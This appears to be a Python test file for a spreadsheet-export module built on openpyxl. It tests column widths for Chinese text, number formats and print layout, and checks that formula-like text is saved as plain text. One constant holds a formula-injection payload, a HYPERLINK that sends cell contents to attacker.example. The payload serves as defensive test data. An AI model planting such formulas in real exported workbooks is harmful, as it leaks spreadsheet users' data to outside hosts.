"""Worksheets laid out to read and to print, read back by openpyxl."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from hezuo.core import sheets
from hezuo.core.sheets import (
    DATE_FORMAT,
    decimal_places,
    number_format,
    set_up_printing,
    shown,
    tabulate,
    text_width,
)
from hezuo.core.tests.printing import fits_to_page, page_footer, page_header


def read_back(sheet: Worksheet) -> Worksheet:
    assert sheet.parent is not None
    out = io.BytesIO()
    sheet.parent.save(out)
    return load_workbook(io.BytesIO(out.getvalue())).worksheets[0]


def table(*rows: list[object]) -> Worksheet:
    sheet = Workbook().active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    return sheet


def test_a_chinese_character_is_as_wide_as_two_digits() -> None:
    assert text_width("2021") == 4
    assert text_width("合作方") == 6
    assert text_width("国（境）外") == 10  # full-width brackets too
    assert text_width("第一行\n第二行更长") == 10


def test_a_number_format_shows_the_words_around_the_number() -> None:
    assert number_format() == "0"
    assert number_format(places=2, after="万余元") == '0.00"万余元"'
    assert shown(117, number_format(after="万余元")) == "117万余元"
    assert shown(2300, number_format(before="近", after="人")) == "近2300人"
    assert shown(15.5, number_format(places=1, after="（含估算口径）")) == "15.5（含估算口径）"
    assert shown(dt.date(2021, 7, 5), DATE_FORMAT) == "2021年7月5日"
    assert [decimal_places(v) for v in (570, 15.5, Decimal("0.3333"), Decimal("3060.0000"))] == [
        0,
        1,
        4,
        0,
    ]


def test_columns_fit_their_text_and_long_text_wraps() -> None:
    sheet = table(
        ["序号", "项目名称", "开始日期", "数值"],
        [1, "与台湾朝阳科技大学合作办学" * 3, dt.date(2021, 7, 5), 3126],
    )
    tabulate(sheet)
    sheet = read_back(sheet)
    widths = [sheet.column_dimensions[c].width for c in "ABCD"]
    # The name is capped at 40 (+2 of padding); the date and the number show whole (+1 for the
    # indent of a number).
    assert widths == [6, 42, 15, 7]
    assert sheet["B2"].alignment.wrap_text
    assert sheet.row_dimensions[2].height == 32  # 78 digits' worth of text in 41: two lines
    assert sheet["A1"].font.b and sheet["A1"].alignment.wrap_text
    assert sheet["C2"].number_format == DATE_FORMAT


def test_a_wide_table_prints_landscape_one_page_wide_with_its_headings_repeated() -> None:
    wide = table(["活动", "合作方", "详情"], ["中" * 40, "中" * 40, "中" * 40])
    tabulate(wide)
    set_up_printing(wide, header=("学校", "表名 & 说明", ""), footer="第 &P 页，共 &N 页")
    wide = read_back(wide)
    assert wide.page_setup.orientation == "landscape"
    assert wide.page_setup.paperSize == 9  # A4
    assert fits_to_page(wide)
    assert (wide.page_setup.fitToWidth, wide.page_setup.fitToHeight) == (1, 0)
    assert wide.print_title_rows == "$1:$1"
    assert wide.print_area == "'Sheet'!$A$1:$C$2"
    assert wide.freeze_panes == "A2"
    assert page_header(wide) == ("学校", "表名 && 说明", None)
    assert page_footer(wide) == "第 &P 页，共 &N 页"
    narrow = table(["序号", "指标", "数值"], [1, "学生境外交流培训", 570])
    tabulate(narrow)
    set_up_printing(narrow, footer="&P")
    assert read_back(narrow).page_setup.orientation == "portrait"


HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")'


def _formulas(data: bytes) -> list[str]:
    """The formulas the workbook's sheets hold, read from its XML as Excel would."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return [
            formula
            for name in package.namelist()
            if name.startswith("xl/worksheets/")
            for formula in re.findall(r"<f>(.*?)</f>", package.read(name).decode())
        ]


def test_text_that_looks_like_a_formula_is_saved_as_text() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([HOSTILE, "+1+1", "@SUM(A1)", 3])
    unsafe = io.BytesIO()
    book.save(unsafe)
    assert _formulas(unsafe.getvalue()), "openpyxl alone writes it as a formula"
    out = io.BytesIO()
    sheets.save_workbook(book, out)
    assert _formulas(out.getvalue()) == []
    reread = load_workbook(io.BytesIO(out.getvalue()))
    assert [cell.value for cell in reread.worksheets[0][1]] == [HOSTILE, "+1+1", "@SUM(A1)", 3]


def test_a_write_only_sheet_keeps_such_text_as_text() -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("list")
    sheet.append([sheets.text_cell(sheet, value) for value in (HOSTILE, "plain", 7)])
    out = io.BytesIO()
    book.save(out)
    assert _formulas(out.getvalue()) == []
    reread = load_workbook(io.BytesIO(out.getvalue()))
    assert [cell.value for cell in reread.worksheets[0][1]] == [HOSTILE, "plain", 7]
